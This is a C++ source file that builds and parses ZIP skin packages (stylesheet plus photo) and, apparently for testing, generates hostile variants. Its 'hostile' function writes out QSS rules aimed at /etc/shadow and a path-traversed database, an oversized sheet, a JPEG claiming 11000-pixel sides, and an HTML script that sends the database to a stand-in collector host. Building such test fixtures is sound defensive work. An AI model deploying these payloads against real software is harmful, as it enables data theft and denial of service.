#include "SkinPackages.h"

#include "Text.h"

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <sstream>

namespace {

std::optional<std::string> readFile(const std::filesystem::path &path)
{
    std::ifstream file(path, std::ios::binary);
    if (!file) return std::nullopt;
    std::ostringstream content;
    content << file.rdbuf();
    return content.str();
}

uint32_t crc32(const std::string &data)
{
    uint32_t crc = 0xFFFFFFFFu;
    for (unsigned char byte : data) {
        crc ^= byte;
        for (int bit = 0; bit < 8; ++bit) crc = (crc >> 1) ^ (0xEDB88320u & (0u - (crc & 1u)));
    }
    return ~crc;
}

void put16(std::string &out, uint32_t value)
{
    out += static_cast<char>(value & 0xFF);
    out += static_cast<char>((value >> 8) & 0xFF);
}

void put32(std::string &out, uint32_t value)
{
    put16(out, value & 0xFFFF);
    put16(out, value >> 16);
}

// Fields shared by the local header and the central directory, from "version needed" on.
void putCommon(std::string &out, const SkinPackages::Entry &e, uint32_t crc)
{
    put16(out, 10);            // version needed: 1.0, stored
    put16(out, 0);             // flags
    put16(out, 0);             // method: stored
    put16(out, 0);             // time 00:00
    put16(out, (45 << 9) | (1 << 5) | 1);   // date 2025-01-01
    put32(out, crc);
    put32(out, static_cast<uint32_t>(e.data.size()));
    put32(out, static_cast<uint32_t>(e.data.size()));
    put16(out, static_cast<uint32_t>(e.name.size()));
    put16(out, 0);             // extra field length
}
}

SkinPackages::SkinPackages(const std::string &skinsDir)
{
    std::error_code ec;
    for (const auto &dir : std::filesystem::directory_iterator(skinsDir, ec)) {
        const std::string name = dir.path().filename().string();
        auto style = readFile(dir.path() / "style.qss");
        auto photo = readFile(dir.path() / "photo.jpg");
        if (!dir.is_directory() || !Text::isWord(name) || !style || !photo) continue;
        const std::string title = Text::trim(readFile(dir.path() / "title.txt").value_or(name));
        m_skins.push_back({name, title});
        m_photos[name] = *photo;
        m_packages[name] = zip({{name + "/", "", true},
                                {name + "/style.qss", *style, false},
                                {name + "/photo.jpg", *photo, false}});
    }
    std::sort(m_skins.begin(), m_skins.end(), [](const Skin &a, const Skin &b) { return a.name < b.name; });
}

std::optional<std::string> SkinPackages::package(const std::string &name) const
{
    auto it = m_packages.find(name);
    return it == m_packages.end() ? std::nullopt : std::optional<std::string>(it->second);
}

std::optional<std::string> SkinPackages::photo(const std::string &name) const
{
    auto it = m_photos.find(name);
    return it == m_photos.end() ? std::nullopt : std::optional<std::string>(it->second);
}

std::string SkinPackages::zip(const std::vector<Entry> &entries)
{
    std::string out;
    std::string central;
    for (const Entry &e : entries) {
        const uint32_t offset = static_cast<uint32_t>(out.size());
        const uint32_t crc = crc32(e.data);
        put32(out, 0x04034b50);
        putCommon(out, e, crc);
        out += e.name;
        out += e.data;

        put32(central, 0x02014b50);
        put16(central, 20);    // made by: MS-DOS attributes, zip 2.0
        putCommon(central, e, crc);
        put16(central, 0);     // comment length
        put16(central, 0);     // disk number
        put16(central, 0);     // internal attributes
        // The client creates a directory only for the exact MS-DOS directory attribute.
        put32(central, e.directory ? 0x10 : 0x20);
        put32(central, offset);
        central += e.name;
    }
    const uint32_t centralOffset = static_cast<uint32_t>(out.size());
    out += central;
    put32(out, 0x06054b50);
    put16(out, 0);
    put16(out, 0);
    put16(out, static_cast<uint32_t>(entries.size()));
    put16(out, static_cast<uint32_t>(entries.size()));
    put32(out, static_cast<uint32_t>(central.size()));
    put32(out, centralOffset);
    put16(out, 0);
    return out;
}

namespace {
uint32_t get16(const std::string &in, size_t at)
{
    return static_cast<unsigned char>(in[at]) | (static_cast<unsigned char>(in[at + 1]) << 8);
}

uint32_t get32(const std::string &in, size_t at)
{
    return get16(in, at) | (get16(in, at + 2) << 16);
}

bool endsWith(const std::string &text, const std::string &suffix)
{
    return text.size() >= suffix.size() && text.compare(text.size() - suffix.size(), suffix.size(), suffix) == 0;
}

// The frame header's height and width set to side (baseline or progressive JPEG).
void claimSide(std::string &jpeg, uint16_t side)
{
    for (size_t i = 2; i + 9 < jpeg.size(); ++i) {
        const unsigned char marker = static_cast<unsigned char>(jpeg[i + 1]);
        if (jpeg[i] != '\xFF' || (marker != 0xC0 && marker != 0xC2)) continue;
        for (size_t at : {i + 5, i + 7}) {
            jpeg[at] = static_cast<char>(side >> 8);
            jpeg[at + 1] = static_cast<char>(side & 0xFF);
        }
        return;
    }
}
}

std::vector<SkinPackages::Entry> SkinPackages::entries(const std::string &archive)
{
    std::vector<Entry> out;
    size_t at = 0;
    while (at + 30 <= archive.size() && get32(archive, at) == 0x04034b50) {
        const uint32_t size = get32(archive, at + 18);
        const uint32_t nameLength = get16(archive, at + 26);
        const uint32_t extra = get16(archive, at + 28);
        const size_t data = at + 30 + nameLength + extra;
        if (data + size > archive.size()) return {};
        Entry entry{archive.substr(at + 30, nameLength), archive.substr(data, size), false};
        entry.directory = !entry.name.empty() && entry.name.back() == '/';
        out.push_back(entry);
        at = data + size;
    }
    return out;
}

bool SkinPackages::isHostileKind(const std::string &kind)
{
    return kind == "extra_html" || kind == "qss_urls" || kind == "large_qss" || kind == "huge_photo";
}

std::string SkinPackages::hostile(const std::string &package, const std::string &kind)
{
    std::vector<Entry> list = entries(package);
    if (list.empty()) return package;
    const std::string folder = list.front().name.substr(0, list.front().name.find('/') + 1);
    for (Entry &entry : list) {
        if (kind == "qss_urls" && endsWith(entry.name, "/style.qss"))
            entry.data += "\nQPushButton#skinBtn { image: url(/etc/shadow); }\n"
                          "QLabel { border-image: url(\"/dev/urandom\"); }\n"
                          "QFrame { background-image: URL(../../vmgamebox.db); }\n";
        if (kind == "large_qss" && endsWith(entry.name, "/style.qss"))
            entry.data += "/*" + std::string(15u << 20, 'x') + "*/";
        if (kind == "huge_photo" && endsWith(entry.name, "/photo.jpg")) claimSide(entry.data, 11000);
    }
    if (kind == "extra_html")
        list.push_back({folder + "readme.html",
                        "<script>var x = new XMLHttpRequest(); x.open('GET', '../../vmgamebox.db', false); x.send();"
                        "location = 'http://collector.invalid/?d=' + encodeURIComponent(x.responseText);</script>",
                        false});
    return zip(list);
}

std::string SkinPackages::withSheetOf(const std::string &package, size_t bytes)
{
    std::vector<Entry> list = entries(package);
    for (Entry &entry : list) {
        if (!endsWith(entry.name, "/style.qss")) continue;
        for (int rule = 0; entry.data.size() < bytes; ++rule) {
            const std::string id = std::to_string(rule);
            const std::string text = "\nQPushButton#button" + id + ":hover, QLabel#label" + id
                                     + " { color: #" + std::to_string(100000 + rule % 900000)
                                     + "; border: 1px solid #203040; padding: 2px; }";
            entry.data += text.substr(0, bytes - entry.data.size());
        }
        // A rule cut short would make the sheet invalid: the tail becomes spaces.
        const size_t lastRule = entry.data.rfind('}');
        if (entry.data.size() == bytes && lastRule != std::string::npos)
            std::fill(entry.data.begin() + static_cast<long>(lastRule) + 1, entry.data.end(), ' ');
    }
    return list.empty() ? package : zip(list);
}
